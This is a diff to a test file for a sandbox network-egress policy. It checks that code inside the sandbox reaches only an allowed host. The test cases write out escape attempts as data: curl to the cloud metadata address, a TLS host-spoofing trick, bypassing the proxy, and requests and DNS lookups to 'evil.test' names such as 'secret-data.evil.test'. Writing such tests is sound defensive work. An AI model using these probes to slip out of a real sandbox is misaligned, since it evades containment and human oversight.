@@ -2,11 +2,11 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { HTTP_PORT, NAME_SERVER, Outside, writeNetworkedPolicy } from './support/outside.ts';
+import { HTTP_PORT, Outside, writeNetworkedPolicy } from './support/outside.ts';
 import { docker } from './support/docker.ts';
 import { World, type Server, type ToolReply } from './support/server.ts';
 
-/** Policies with an egress list, against an outside world of our own on loopback. */
+/** Sandbox policies with an egress list, against an outside world of containers. */
 
 const GOOD = `http://good.test:${String(HTTP_PORT)}`;
 const item = { trace: 'networked' };
@@ -18,7 +18,7 @@ beforeAll(async () => {
   outside = await Outside.open();
   world = new World();
   writeNetworkedPolicy(world.folder);
-  server = await world.start({ FAULTLINE_EGRESS_DNS: NAME_SERVER });
+  server = await world.start({ FAULTLINE_EGRESS_DNS: outside.nameServer });
 });
 afterAll(async () => {
   await world[Symbol.asyncDispose]();
@@ -79,7 +79,8 @@ describe('nothing else is reached', () => {
       'curl -s -o /dev/null -w "%{http_code}" http://notopen.test:8480/',
       '403',
     ],
-    ['an address', 'curl -s -o /dev/null -w "%{http_code}" http://127.0.0.2:8480/', '403'],
+    ['an address', 'curl -s -o /dev/null -w "%{http_code}" http://{web}:8480/', '403'],
+    ['an address of this host', 'curl -s -o /dev/null -w "%{http_code}" http://127.0.0.2:8480/', '403'],
     ['an address in IPv6', 'curl -s -o /dev/null -w "%{http_code}" "http://[fd00::1]:8480/"', '403'],
     ['metadata', 'curl -s -o /dev/null -w "%{http_code}" http://169.254.169.254/latest/meta-data/', '403'],
     ['this host', 'curl -s -o /dev/null -w "%{http_code}" http://localhost.localdomain:8080/', '403'],
@@ -89,22 +90,19 @@ describe('nothing else is reached', () => {
       '403',
     ],
     ['a tunnel to another name', 'curl -sk -o /dev/null -w "%{http_code}" https://evil.test/', '403'],
-    [
-      'without the proxy',
-      'unset http_proxy HTTP_PROXY; curl -s -m 3 http://127.0.0.2:8480/ || echo $?',
-      '7\n',
-    ],
+    ['without the proxy', 'unset http_proxy HTTP_PROXY; curl -s -m 3 http://{web}:8480/ || echo $?', '7\n'],
     [
       'by name without the proxy',
       'unset http_proxy HTTP_PROXY; curl -s -m 9 http://good.test:8480/ || echo $?',
       '6\n',
     ],
-    ['the name server', 'dig +time=1 +tries=1 @127.0.0.53 a.evil.test >/dev/null || echo $?', '9\n'],
+    ['the name server', 'dig +time=1 +tries=1 @{names} a.evil.test >/dev/null || echo $?', '9\n'],
   ])('%s', async (_, command, shown) => {
-    const before = outside.arrived.length;
-    const reply = await shell('r', command);
+    const before = await outside.arrivals();
+    const addressed = command.replace('{web}', outside.address).replace('{names}', outside.nameServer);
+    const reply = await shell('r', addressed);
     expect(reply).toMatchObject({ status: 200, output: shown });
-    expect(outside.arrived).toHaveLength(before);
+    expect(await outside.arrivals()).toEqual(before);
   });
 
   it('a listed host under the name of another, within TLS', async () => {
@@ -113,14 +111,15 @@ describe('nothing else is reached', () => {
       'curl -sk --connect-to evil.test:443:good.test:443 https://evil.test/ || echo $?',
     );
     expect(output).not.toContain('hello');
-    expect(outside.arrived).not.toContain('evil.test');
+    expect((await outside.arrivals()).arrived).not.toContain('evil.test');
   });
 
   it('there is no interface but loopback, and no name is asked for that is not listed', async () => {
     expect((await shell('r', 'ls /sys/class/net; cat /proc/net/route | wc -l')).output).toBe('lo\n1\n');
     await shell('r', 'curl -s http://secret-data.evil.test/; getent hosts more-secrets.evil.test');
-    expect(outside.asked).not.toContain('secret');
-    expect(outside.asked).toContain('good.test');
+    const asked = await outside.asked();
+    expect(asked).not.toContain('secret');
+    expect(asked).toContain('good.test');
   });
 
   it('and all of it is the model’s own doing', async () => {
@@ -152,7 +151,7 @@ it('a proxy that dies under a call excludes the rollout that used it, no other, 
   await shell('idle', 'true');
   const using = shell('hit', `curl -s ${GOOD}/slow`);
   const idling = shell('idle', 'sleep 3; echo slept');
-  await until(() => outside.held > 0);
+  await until(async () => (await outside.arrivals()).held > 0);
   process.kill(proxyPid(), 'SIGKILL');
   expect(await using).toMatchObject({ status: 503 });
   expect(await server.verdict('hit')).toMatchObject({ verdict: 'exclude', reasons: ['egress_down'] });
@@ -173,13 +172,10 @@ it('a proxy that hangs is noticed by the call that used it, and replaced', async
 
 it('name servers that are silent are ours', async () => {
   await shell('nameless', 'true');
-  outside.names('SIGSTOP');
-  try {
+  {
+    await using _silence = await outside.silenceNames();
     const reply = await shell('nameless', `curl -sS -v http://fresh.open.test:${String(HTTP_PORT)}/`);
-    console.error('REPLY', JSON.stringify(reply));
     expect(reply.status).toBe(503);
-  } finally {
-    outside.names('SIGCONT');
   }
   expect(await server.verdict('nameless')).toMatchObject({ verdict: 'exclude', reasons: ['egress_down'] });
 });
@@ -187,7 +183,7 @@ it('name servers that are silent are ours', async () => {
 it('after a controller that was killed the way out is there again', async () => {
   await shell('lasting', `curl -s ${GOOD}/`);
   await server.kill();
-  server = await world.start({ FAULTLINE_EGRESS_DNS: NAME_SERVER });
+  server = await world.start({ FAULTLINE_EGRESS_DNS: outside.nameServer });
   const again = await shell('lasting', `curl -s ${GOOD}/`);
   expect(again).toMatchObject({ status: 200, output: 'hello from outside\n' });
   expect(await server.verdict('lasting')).toMatchObject({ verdict: 'valid' });
@@ -203,6 +199,6 @@ it('a sandbox’s door goes with it', async () => {
   // And where nobody was there to see it go, at the next start.
   await server.kill();
   await docker('rm', '-f', String(world.claims('after').at(-1)));
-  server = await world.start({ FAULTLINE_EGRESS_DNS: NAME_SERVER });
+  server = await world.start({ FAULTLINE_EGRESS_DNS: outside.nameServer });
   await until(async () => doors().length === (await names()));
 });
